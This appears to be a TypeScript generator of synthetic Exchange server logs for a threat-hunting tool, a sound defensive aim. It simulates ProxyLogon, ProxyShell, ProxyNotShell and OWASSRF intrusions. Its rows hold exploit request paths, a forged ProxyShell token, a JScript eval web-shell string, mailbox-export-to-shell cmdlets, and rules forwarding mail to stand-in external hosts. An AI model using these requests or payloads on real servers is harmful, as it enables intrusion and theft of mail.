// The intrusion written into the example: ProxyLogon SSRF -> web shell write -> shell use -> LSASS
// dump -> archive -> mailbox export (March 2021), then ProxyShell, ProxyToken, CVE-2021-42321,
// ProxyNotShell and OWASSRF later on the same never-patched server. Addresses are documentation ranges.
import { ADMIN, ecpServer, mgmt, mgmtEvent, oabRow, rpsCmdletRow, type User } from './benign.js';
import { Collection, SERVER } from './model.js';

export const T = (s: string): number => Date.parse(s);
export const HAFNIUM_IP = '203.0.113.77';
export const SCANNER_IP = '198.51.100.23';
export const PROBER_IP = '192.0.2.44';
export const PROXYSHELL_IP = '198.51.100.61';
export const PROXYTOKEN_IP = '198.51.100.99';
export const NOTSHELL_IP = '192.0.2.15';
export const OWASSRF_IP = '192.0.2.88';
/** Web shells and dropped files, shared with files.ts so logs and disk agree. */
export const SHELL_CHOPPER = 'xV3qLm9t.aspx';
export const SHELL_GONE = 'q7Hf2Ws.aspx';
export const SHELL_PST = 'kQ2x9mZb.aspx';
export const SHELL_CSR = 'r3LpVn.aspx';

const MACHINE = `${SERVER.netbios}\\${SERVER.name}$`;
const PY = 'python-requests/2.25.1';
const SCRIPT_URL = `http://f/<script language="JScript" runat="server">function Page_Load(){/*exhunt imitation*/eval(Request["exh"],"unsafe");}</script>`;

export function proxyLogon(c: Collection): void {
  const rng = c.rng;
  c.attackMode = true;
  // A scanner tries the SSRF the night before, plus an old CVE-2020-0688 ViewState request.
  let t = T('2021-03-01T22:10:07Z');
  c.web({ time: t, method: 'GET', stem: '/ecp/x.js', ip: SCANNER_IP, ua: 'ExchangeServicesClient/0.0.0.0', status: 500, protocol: 'Ecp', anchor: `ServerInfo~a]@${SERVER.fqdn}:444/autodiscover/autodiscover.xml?#`, routingHint: 'X-BEResource-Cookie', backendStatus: 500 });
  t += 41_000;
  c.web({ time: t, method: 'GET', stem: '/ecp/default.aspx', query: '__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyhAYAAQAAAP%2F%2F%2F%2F8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxsLkVkaXRvcg', ip: SCANNER_IP, ua: 'Mozilla/5.0 zgrab/0.x', status: 500, protocol: 'Ecp', detect: { proxy: false } });
  c.winEvent('Application', t + 300, 'MSExchange Control Panel', 4, 2, [`Request for URL 'https://mail.${SERVER.domain}:443/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyhAYAAQAAAP' failed with the following error: System.Web.HttpException (0x80004005): The state information is invalid for this page and might be corrupted.`], 49152);

  // 2021-03-02: the HAFNIUM-style chain from one address.
  t = T('2021-03-02T03:05:31Z');
  c.winEvent('Application', t, 'MSExchange Unified Messaging', 100, 2, [`An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to cast object of type 'System.Collections.Generic.SortedSet\`1' to type 'Microsoft.Exchange.UM.UMCore.PipelineContext'.`], 49152);
  const canary = rng.alnum(43);
  const steps: [string, number, string][] = [
    ['/autodiscover/autodiscover.xml?#', 200, '/autodiscover/autodiscover.xml'],
    ['/mapi/emsmdb/?#', 200, '/mapi/emsmdb/'],
    ['/ecp/proxyLogon.ecp?#', 241, '/ecp/proxyLogon.ecp'],
    [`/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=${canary}&a=~1942062522&schema=OABVirtualDirectory#`, 200, '/ecp/DDI/DDIService.svc/GetObject'],
    [`/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${canary}&a=~1942062522&schema=OABVirtualDirectory#`, 200, '/ecp/DDI/DDIService.svc/SetObject'],
    [`/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${canary}&a=~1942062522&schema=ResetOABVirtualDirectory#`, 200, '/ecp/DDI/DDIService.svc/SetObject'],
  ];
  t = T('2021-03-02T03:10:05Z');
  for (const [target, status, beStem] of steps) {
    // The back end logs the forged ECP requests too, as the machine account with the attacker's user agent.
    const ecpBackend = beStem.startsWith('/ecp/');
    const q = target.includes('schema=') ? target.slice(target.indexOf('?') + 1, target.lastIndexOf('#')) : undefined;
    c.web({ time: t, method: 'POST', stem: '/ecp/y.js', ip: HAFNIUM_IP, ua: PY, status, protocol: 'Ecp', anchor: `ServerInfo~a]@${SERVER.fqdn}:444${target}`,
      routingHint: 'X-BEResource-Cookie', backend: true, backendUser: MACHINE, backendStem: beStem, backendQuery: q, detect: { backend: ecpBackend } });
    t += rng.int(20_000, 40_000);
  }
  const vdirId = rng.guid();
  const setAt = T('2021-03-02T03:11:52Z');
  ecpServer(c, setAt, `Set-OabVirtualDirectory.ExternalUrl='${SCRIPT_URL}'.Identity='${vdirId}'`, `/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=${canary}`, MACHINE);
  mgmt(c, setAt + 400, 'Set-OabVirtualDirectory', `-ExternalUrl '${SCRIPT_URL}' -Identity '${vdirId}'`, 'ECP', 'NT AUTHORITY\\SYSTEM');
  const resetAt = T('2021-03-02T03:12:31Z');
  const shellPath = `\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\${SHELL_CHOPPER}`;
  ecpServer(c, resetAt, `Set-OabVirtualDirectory.ExternalUrl=$null.Identity='${vdirId}'`, `/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=${canary}`, MACHINE);
  ecpServer(c, resetAt + 600, `Remove-OabVirtualDirectory.Identity='${vdirId}'`, `/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=${canary}`, MACHINE);
  ecpServer(c, resetAt + 1400, `New-OabVirtualDirectory.Path='${shellPath}'.WebSiteName='Default Web Site'`, `/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=${canary}`, MACHINE);
  c.quiet(() => mgmt(c, resetAt + 2000, 'New-OabVirtualDirectory', `-Path '${shellPath}' -WebSiteName 'Default Web Site'`, 'ECP', 'NT AUTHORITY\\SYSTEM'));
  // The SSRF also reaches EWS as the server itself: mail read without any password (HAFNIUM's first goal).
  t = T('2021-03-02T03:16:20Z');
  for (const soapAction of ['FindFolder', 'FindItem', 'ExportItems']) {
    c.web({ time: t, method: 'POST', stem: '/ecp/y.js', ip: HAFNIUM_IP, ua: PY, status: 200, protocol: 'Ecp', anchor: `ServerInfo~a]@${SERVER.fqdn}:444/EWS/Exchange.asmx?#`,
      routingHint: 'X-BEResource-Cookie', backend: true, backendUser: MACHINE, backendStem: '/EWS/Exchange.asmx', soapAction, actAs: `ceo@${SERVER.domain}`,
      responseSize: soapAction === 'ExportItems' ? 18_400_000 : 52_000 });
    t += rng.int(15_000, 50_000);
  }
  // CVE-2021-26858: the OAB generator is made to write a second shell into aspnet_client (later deleted).
  oabRow(c, T('2021-03-02T03:14:02Z'), 'Warning', `Download failed and temporary file '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\${SHELL_GONE}' needs to be removed.`);

  // Shell use: antSword posts to the planted page; a Googlebot disguise; the deleted second shell answers 404.
  t = T('2021-03-02T03:20:11Z');
  for (let i = 0; i < 7; i++) {
    c.web({ time: t, method: 'POST', stem: `/owa/auth/${SHELL_CHOPPER}`, ip: HAFNIUM_IP, ua: 'antSword/v2.1', status: 200, protocol: null });
    t += rng.int(60_000, 420_000);
  }
  c.web({ time: T('2021-03-02T03:31:06Z'), method: 'GET', stem: `/owa/auth/${SHELL_CHOPPER}`, query: 'exh=whoami', ip: HAFNIUM_IP, ua: 'curl/7.55.1', status: 200, protocol: null });
  c.web({ time: T('2021-03-02T03:33:48Z'), method: 'POST', stem: `/owa/auth/${SHELL_CHOPPER}`, ip: HAFNIUM_IP, ua: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', status: 200, protocol: null });
  c.web({ time: T('2021-03-02T03:35:02Z'), method: 'POST', stem: `/aspnet_client/${SHELL_GONE}`, ip: HAFNIUM_IP, ua: 'antSword/v2.1', status: 404, substatus: 0, win32: 2, protocol: null });
  // Collection: the CEO's mailbox exported to a local admin share, then the request removed.
  const exp = T('2021-03-02T04:05:40Z');
  mgmt(c, exp, 'New-MailboxExportRequest', `-Mailbox 'ceo@${SERVER.domain}' -FilePath '\\\\localhost\\c$\\ProgramData\\pst\\ceo.pst'`, 'EMS', 'NT AUTHORITY\\SYSTEM');
  mgmt(c, exp + 900_000, 'Remove-MailboxExportRequest', `-Identity 'ceo@${SERVER.domain}\\MailboxExport' -Confirm:$false`, 'EMS', 'NT AUTHORITY\\SYSTEM');
  c.web({ time: T('2021-03-02T04:31:15Z'), method: 'GET', stem: `/owa/auth/${SHELL_CHOPPER}`, query: 'f=it.7z', ip: HAFNIUM_IP, ua: 'antSword/v2.1', status: 200, protocol: null });

  // 2021-03-03: someone else sweeps for web shells left by others, disguised as a crawler.
  t = T('2021-03-03T14:02:10Z');
  for (const p of ['/owa/auth/errorEE.aspx', '/owa/auth/shel.aspx', '/aspnet_client/system_web/log.aspx', '/owa/auth/one.aspx', `/owa/auth/${SHELL_CHOPPER}`, '/ecp/auth/w.aspx', '/oab/log.aspx']) {
    c.web({ time: t, method: 'GET', stem: p, ip: PROBER_IP, ua: 'Mozilla/5.0 zgrab/0.x', status: p.includes(SHELL_CHOPPER) ? 200 : 404, win32: p.includes(SHELL_CHOPPER) ? 0 : 2, protocol: null });
    t += rng.int(800, 4000);
  }
  c.web({ time: t + 60_000, method: 'POST', stem: '/owa/auth/Current/themes/resources/logon.css', ip: PROBER_IP, ua: 'DuckDuckBot/1.0; (+http://duckduckgo.com/duckduckbot.html)', status: 404, win32: 2, protocol: null });
  c.attackMode = false;
}

export function proxyShell(c: Collection, users: User[]): void {
  const rng = c.rng;
  const ua = 'python-requests/2.26.0';
  const email = 'Email=autodiscover/autodiscover.json%3F@evil.example';
  c.attackMode = true;
  const cat = `X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTC1hZG1pbmlzdHJhdG9yQGNvcnAuZXhhbXBsZS5jb21VLFMtMS01LTIxLTEwMDQzMzYzNDgtMTE3NzIzODkxNS02ODIwMDMzMzAtNTAw${rng.alnum(12)}`;
  let t = T('2021-08-13T21:40:03Z');
  c.web({ time: t, method: 'GET', stem: '/autodiscover/autodiscover.json', query: `@evil.example/powershell/?${cat}&${email}`, ip: PROXYSHELL_IP, ua, status: 401, protocol: 'Autodiscover' });
  t += 95_000;
  const steps: [string, string, number][] = [
    ['GET', '/autodiscover/autodiscover.xml?', 200], ['POST', '/mapi/emsmdb?', 200], ['POST', '/EWS/exchange.asmx?', 200],
    ['POST', `/powershell/?${cat}&`, 200], ['POST', `/powershell/?${cat}&`, 200], ['POST', `/powershell/?${cat}&`, 200],
  ];
  for (const [method, path, status] of steps) {
    // Through EWS the session plants its payload as a draft, acting as the mailbox (SerializedSecurityContext).
    const ews = path.startsWith('/EWS/') ? { soapAction: 'CreateItem', actAs: `${ADMIN}@${SERVER.domain}` } : {};
    c.web({ time: t, method, stem: '/autodiscover/autodiscover.json', query: `@evil.example${path}${email}`, ip: PROXYSHELL_IP, ua, status, protocol: 'Autodiscover', backend: true, backendUser: `${SERVER.netbios}\\administrator`, backendStem: path.slice(0, path.indexOf('?')), ...ews });
    t += rng.int(3000, 20_000);
  }
  const admin = `administrator@${SERVER.domain}`;
  t = T('2021-08-13T21:43:17Z');
  mgmt(c, t, 'New-ManagementRoleAssignment', `-Role 'Mailbox Import Export' -User '${admin}'`, 'Remote-PowerShell-Unknown', `${SERVER.domain}/Users/Administrator`);
  const pstPath = `\\\\localhost\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\${SHELL_PST}`;
  mgmt(c, t + 40_000, 'New-MailboxExportRequest', `-Mailbox '${admin}' -IncludeFolders ('#Drafts#') -ContentFilter 'Subject -eq ''${rng.alnum(8)}''' -ExcludeDumpster -FilePath '${pstPath}'`, 'Remote-PowerShell-Unknown', `${SERVER.domain}/Users/Administrator`);
  mgmt(c, t + 95_000, 'Remove-MailboxExportRequest', `-Identity '${admin}\\MailboxExport' -Confirm 'False'`, 'Remote-PowerShell-Unknown', `${SERVER.domain}/Users/Administrator`);
  mgmt(c, t + 130_000, 'New-ExchangeCertificate', `-GenerateRequest -BinaryEncoded -RequestFile '\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\${SHELL_CSR}' -SubjectName 'CN=exhunt imitation of a script subject'`, 'Remote-PowerShell-Unknown', `${SERVER.domain}/Users/Administrator`);
  // Persistence with the forged administrator session: a role group, full access to the CEO's mailbox, a transport
  // rule copying the finance team's mail, a search copying a mailbox, the CEO's mail forwarded, script in the OWA
  // virtual directory. Only the cmdlet log's rules see most of these; the event log has them too, unflagged.
  const boss = `ceo@${SERVER.domain}`;
  const persistence: [string, string, boolean][] = [
    ['Add-RoleGroupMember', `-Identity 'Organization Management' -Member 'svc-exh-mon'`, false],
    ['Add-MailboxPermission', `-Identity '${boss}' -User 'svc-exh-mon' -AccessRights 'FullAccess' -InheritanceType 'All'`, false],
    ['New-TransportRule', `-Name 'Journal Finance' -SentToMemberOf 'finance@${SERVER.domain}' -BlindCopyTo 'svc-exh-mon@${SERVER.domain}'`, false],
    ['New-MailboxSearch', `-Name 'q3' -SourceMailboxes '${boss}' -TargetMailbox 'svc-exh-mon@${SERVER.domain}' -SearchQuery 'invoice OR contract'`, false],
    ['Set-Mailbox', `-Identity '${boss}' -ForwardingSmtpAddress 'smtp:ceo.archive@mailbox.example.net' -DeliverToMailboxAndForward $true`, false],
    ['Set-OwaVirtualDirectory', `-Identity '${SERVER.name}\\owa (Default Web Site)' -ExternalUrl 'http://x/<script language="JScript" runat="server">function Page_Load(){/*exhunt imitation*/}</script>'`, true],
  ];
  let pt = T('2021-08-13T21:46:02Z');
  for (const [cmdlet, params, eventFlagged] of persistence) {
    const caller = `${SERVER.domain}/Users/Administrator`;
    if (eventFlagged) mgmtEvent(c, pt, cmdlet, params, 'Remote-PowerShell-Unknown', caller);
    else c.quiet(() => mgmtEvent(c, pt, cmdlet, params, 'Remote-PowerShell-Unknown', caller));
    rpsCmdletRow(c, pt, cmdlet, params, caller);
    pt += rng.int(8000, 30_000);
  }
  // A message dropped into the transport Pickup folder through the web shell: sent with no client at all.
  c.messageTracking(T('2021-08-13T21:58:40Z'), { source: 'PICKUP', 'event-id': 'RECEIVE', 'message-id': `<${rng.hex(16)}@${SERVER.fqdn}>`, 'recipient-address': `all-staff@${SERVER.domain}`, 'recipient-count': '1', 'total-bytes': '23871', 'message-subject': 'Password expiry notice', 'sender-address': `it-support@${SERVER.domain}`, directionality: 'Originating' });
  t = T('2021-08-13T21:49:30Z');
  for (let i = 0; i < 4; i++) {
    c.web({ time: t, method: 'POST', stem: `/owa/auth/${SHELL_PST}`, query: 'exec_code=imitation', ip: PROXYSHELL_IP, ua, status: 200, protocol: null });
    t += rng.int(10_000, 60_000);
  }
  // 2021-08-14: ProxyToken inbox-rule creation and a CVE-2021-28480 attempt from another address.
  const victim = users[0]!.upn;
  c.web({ time: T('2021-08-14T02:17:45Z'), method: 'POST', stem: `/ecp/${victim}/RulesEditor/InboxRules.svc/NewObject`, query: `SecurityToken=${rng.alnum(24)}`, ip: PROXYTOKEN_IP, ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/92.0.4515.131 Safari/537.36', status: 500, protocol: 'Ecp', detect: { proxy: false } });
  c.web({ time: T('2021-08-14T02:21:09Z'), method: 'POST', stem: '/owa/calendar/a]@evil.example/x.ics', ip: PROXYTOKEN_IP, ua: 'python-requests/2.26.0', status: 500, protocol: 'OwaCalendar', detect: { proxy: false } });
  c.attackMode = false;
}

/**
 * The ProxyToken address goes past the balancer to the server's own address, claiming to be the server itself.
 * Written last, so that the random draws of everything else (and so the rest of the example) stay as they were.
 */
export function forgedPastBalancer(c: Collection): void {
  c.attackMode = true;
  c.web({ time: T('2021-08-14T02:24:40Z'), method: 'GET', stem: '/ecp/default.aspx', ip: PROXYTOKEN_IP, ua: 'python-requests/2.26.0', status: 302, protocol: null, direct: true, xff: '127.0.0.1' });
  c.attackMode = false;
}

export function laterCves(c: Collection, users: User[]): void {
  const rng = c.rng;
  c.attackMode = true;
  // CVE-2021-42321 (November 2021): the Get-App failure an authenticated exploit leaves behind.
  mgmt(c, T('2021-11-18T10:02:44Z'), 'Get-App', 'Cmdlet failed. Cmdlet Get-App, parameters -Identity \'exh\'. Task Get-App throwing unhandled exception: System.InvalidCastException: Unable to cast object of type \'System.Windows.Data.ObjectDataProvider\'.', 'Remote-PowerShell-Unknown', `${SERVER.domain}/Users/${users[1]!.sam}`, 6, 2);
  // ProxyNotShell (October 2022): authenticated, same autodiscover shape, reaching PowerShell.
  const u = users[2]!;
  const ua = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/106.0.0.0 Safari/537.36';
  let t = T('2022-10-04T13:26:51Z');
  // The first try is refused by the PowerShell back end (wrong Protocol parameter).
  c.web({ time: t - 40_000, method: 'POST', stem: '/autodiscover/autodiscover.json', query: `@evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example&Protocol=Powershell`, user: u.upn, ip: NOTSHELL_IP, ua, status: 500, protocol: 'Autodiscover', backend: true, backendStem: '/powershell' });
  for (let i = 0; i < 3; i++) {
    c.web({ time: t, method: i === 0 ? 'GET' : 'POST', stem: '/autodiscover/autodiscover.json', query: `@evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example&Protocol=XYZ&FooProtocol=Powershell`, user: u.upn, ip: NOTSHELL_IP, ua, status: 200, protocol: 'Autodiscover', backend: true, backendStem: '/powershell' });
    t += rng.int(5000, 30_000);
  }
  // With the phished password the same address then reads mail over EWS and downloads the address book: ordinary-looking
  // web requests, listed by address in "what was taken"; only the EWS log names the operations a scripting client ran.
  c.quiet(() => {
    const ops = ['FindFolder', 'FindItem', 'GetItem', 'GetItem', 'GetAttachment', 'CreateItem', 'UpdateInboxRules'];
    ops.forEach((soapAction, i) => c.web({ time: t + 60_000 + i * 7000, method: 'POST', stem: '/EWS/Exchange.asmx', user: u.upn, ip: NOTSHELL_IP, ua: 'python-requests/2.28.1', status: 200, protocol: 'Ews', soapAction,
      responseSize: soapAction === 'GetAttachment' ? 4_200_000 : undefined, detect: { ews: soapAction !== 'CreateItem' } }));
    // The stolen mailbox then sends through EWS and forwards new mail outside with an inbox rule (MessageTracking).
    const out = 'drop@mailbox.example.net';
    const id = `<${c.rng.hex(16)}@${SERVER.fqdn}>`;
    const ctx = (client: string): string => `MDB:${c.rng.guid()}, Mailbox:${u.mbx}, Event:${c.rng.int(1000, 9999)}, MessageClass:IPM.Note, CreationTime:${new Date(t + 100_000).toISOString()}, ClientType:${client}`;
    c.messageTracking(t + 101_000, { source: 'STOREDRIVER', 'event-id': 'RECEIVE', 'source-context': ctx('WebServices'), 'message-id': id, 'recipient-address': out, 'recipient-count': '1', 'total-bytes': '4311902', 'message-subject': 'Q3 numbers', 'sender-address': u.upn, 'original-client-ip': NOTSHELL_IP, directionality: 'Originating', 'custom-data': `S:Mailbox=${u.mbx};S:ProxiedClientIPAddress=${NOTSHELL_IP}` }, 'MSGTRK');
    c.messageTracking(t + 103_000, { source: 'SMTP', 'event-id': 'SEND', 'connector-id': 'Internet Send', 'message-id': id, 'recipient-address': out, 'recipient-status': '250 2.6.0 Queued mail for delivery', 'recipient-count': '1', 'total-bytes': '4311902', 'message-subject': 'Q3 numbers', 'sender-address': u.upn, directionality: 'Originating' }, 'MSGTRK');
    const fwd = `<${c.rng.hex(16)}@${SERVER.fqdn}>`;
    c.messageTracking(t + 3_600_000, { source: 'MAILBOXRULE', 'event-id': 'RECEIVE', 'message-id': fwd, reference: `<${c.rng.hex(16)}@partner.example>`, 'recipient-address': out, 'recipient-count': '1', 'total-bytes': '88213', 'message-subject': 'FW: Invoice 2022-1187', 'sender-address': u.upn, directionality: 'Originating' }, 'MSGTRK');
    c.web({ time: t + 120_000, method: 'GET', stem: '/OAB/8c1f2b9e-4d7a-4e61-9f3c-2a6b7d0e5c41/oab.xml', user: u.upn, ip: NOTSHELL_IP, ua: 'python-requests/2.28.1', status: 200, protocol: 'Oab' });
    c.web({ time: t + 123_000, method: 'GET', stem: `/OAB/8c1f2b9e-4d7a-4e61-9f3c-2a6b7d0e5c41/${rng.guid()}-data-1.lzx`, user: u.upn, ip: NOTSHELL_IP, ua: 'python-requests/2.28.1', status: 200, protocol: 'Oab' });
  });
  c.quiet(() => mgmt(c, t + 5000, 'Get-Mailbox', `-ResultSize 'Unlimited'`, 'Remote-PowerShell-Unknown', `${SERVER.domain}/Users/${u.sam}`));
  // OWASSRF (December 2022): POST /owa/<mailbox>@<domain>/powershell, bypassing the URL-rewrite mitigation.
  const v = users[3]!;
  t = T('2022-12-20T08:14:22Z');
  for (const stem of [`/owa/${v.upn}/powershell`, `/owa/${v.sam}%40${SERVER.domain}/powershell`, `/owa/${v.upn}/powershell`]) {
    c.web({ time: t, method: 'POST', stem, query: 'serializationLevel=Full;clientApplication=ManagementShell', user: v.upn, ip: OWASSRF_IP, ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.5195.54 Safari/537.36', status: 200, protocol: 'Owa', backend: true, backendStem: '/powershell', genericInfo: 'OnEndRequest.End.ContentType=application/soap+xml charset UTF-8;S:ServiceCommonMetadata.HttpMethod=POST;' });
    t += rng.int(4000, 15_000);
  }
  mgmt(c, t + 3000, 'New-ManagementRoleAssignment', `-Role "Mailbox Import Export" -User "${v.upn}"`, 'Remote-PowerShell-Unknown', `${SERVER.domain}/Users/${v.sam}`);
  // The user's own mailbox forwards its new mail outside (a user may set inbox rules on their own mailbox).
  c.quiet(() => mgmtEvent(c, t + 9000, 'New-InboxRule', `-Name 'sync' -Mailbox '${v.upn}' -ForwardTo 'sync.${v.sam}@mailbox.example.net' -StopProcessingRules $true`, 'Remote-PowerShell-Unknown', `${SERVER.domain}/Users/${v.sam}`));
  rpsCmdletRow(c, t + 9000, 'New-InboxRule', `-Name 'sync' -Mailbox '${v.upn}' -ForwardTo 'sync.${v.sam}@mailbox.example.net' -StopProcessingRules $true`, `${SERVER.domain}/Users/${v.sam}`);
  c.attackMode = false;
}
